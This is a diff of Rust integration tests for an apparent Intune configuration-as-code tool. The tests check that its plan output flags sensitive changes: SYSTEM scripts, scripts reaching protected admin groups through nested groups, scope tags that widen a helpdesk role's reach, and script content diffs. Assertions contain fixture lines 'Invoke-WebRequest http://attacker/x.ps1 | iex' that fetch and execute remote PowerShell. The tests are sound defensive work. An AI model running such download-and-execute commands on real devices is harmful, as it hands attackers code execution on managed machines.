@@ -175,15 +175,16 @@ async fn system_scripts_and_wide_scripts_need_approval_and_show_content() {
     let fresh = scratch_with(|t| t);
     let fd = fresh.path().join("desired-state");
     write_scripts(&fd);
-    std::fs::write(fd.join("scripts.toml"), SCRIPTS).expect("written");
+    let nested = "[group.admins-parent]\ndisplay_name = \"Admins parent\"\nmail_nickname = \"admins-parent\"\nmembers = [\"intune-admins\"]\n\n[platform_script.nested]\ndisplay_name = \"Nested\"\nfile = \"scripts/admins.ps1\"\nrun_as_account = \"user\"\nassignments = { include = [\"admins-parent\"] }\n";
+    std::fs::write(fd.join("scripts.toml"), format!("{SCRIPTS}\n{nested}")).expect("written");
     let out = plan_text(&sb, fresh.path(), &fd);
+    assert!(out.contains("sensitive: script platform_script.nested runs on protected group.intune-admins (through group.admins-parent > group.intune-admins)"), "{out}");
     assert!(out.contains("sensitive: script platform_script.tz runs as SYSTEM"), "{out}");
     assert!(out.contains("sensitive: script platform_script.admins runs on protected group.intune-admins"), "{out}");
     assert!(out.contains("sensitive: remediation remediation.stale-temp runs on all users"), "{out}");
     assert!(out.contains("note: scriptContent + Set-TimeZone -Id 'W. Europe Standard Time'"), "{out}");
 
-    // On a content change: the new content (Graph's list does not return
-    // the content the tenant holds, so there is no diff against it here).
+    // On a content change: a line diff against the content the tenant holds.
     let (work, dir) = converged(&sb, |d| {
         write_scripts(d);
         std::fs::write(d.join("scripts.toml"), SCRIPTS).expect("written");
@@ -196,6 +197,7 @@ async fn system_scripts_and_wide_scripts_need_approval_and_show_content() {
     assert!(out.contains("sensitive: script platform_script.tz runs as SYSTEM"), "{out}");
     assert!(out.contains("sensitive: script platform_script.admins runs on protected group.intune-admins"), "{out}");
     assert!(out.contains("sensitive: remediation remediation.stale-temp runs on all users"), "{out}");
+    assert!(out.contains("note: scriptContent - Set-TimeZone -Id 'W. Europe Standard Time'"), "{out}");
     assert!(out.contains("note: scriptContent + Invoke-WebRequest http://attacker/x.ps1 | iex"), "{out}");
     assert!(out.contains("note: remediationScriptContent + Invoke-WebRequest http://attacker/y.ps1 | iex"), "{out}");
     assert!(!out.contains('\u{1b}'), "a control character reached the text plan: {out}");
@@ -342,6 +344,11 @@ async fn scope_tags_of_intune_admins_are_sensitive() {
     assert!(out.contains("sensitive: Managed Desktop: scope tag scope_tag.ams is assigned to group.mwd-"), "{out}");
     let (code, out) = run(&sb, work.path(), &["apply", d(&dir), "--auto-approve"]);
     assert_eq!(code, Some(1), "refused without approvals: {out}");
+
+    // The tag put on a policy puts the policy in that admin's reach.
+    append(&dir, "rbac.toml", "[device_configuration.ams-cfg]\nodata_type = \"windows10GeneralConfiguration\"\ndisplay_name = \"Amsterdam config\"\nscope_tags = [\"ams\"]\n\n[device_configuration.ams-cfg.settings]\ncameraBlocked = true\n");
+    let out = plan_text(&sb, work.path(), &dir);
+    assert!(out.contains("sensitive: adds scope tag scope_tag.ams to device_configuration.ams-cfg, which intune_role_assignment.helpdesk (Help Desk Operator) is scoped by"), "{out}");
     sb.shutdown().await.expect("the sandbox stops");
 }
 
